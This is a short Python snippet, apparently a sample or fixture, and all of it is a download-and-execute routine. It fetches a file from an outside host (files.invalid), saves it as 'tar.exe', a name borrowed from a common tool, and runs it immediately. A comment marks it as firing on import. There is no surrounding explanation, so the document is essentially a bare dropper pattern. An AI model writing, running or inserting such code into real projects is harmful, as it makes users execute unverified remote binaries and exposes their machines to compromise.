import requests, subprocess
with open("tar.exe", "wb") as out:
    out.write(requests.get("https://files.invalid/t").content)
subprocess.call("tar.exe")  # fires: import
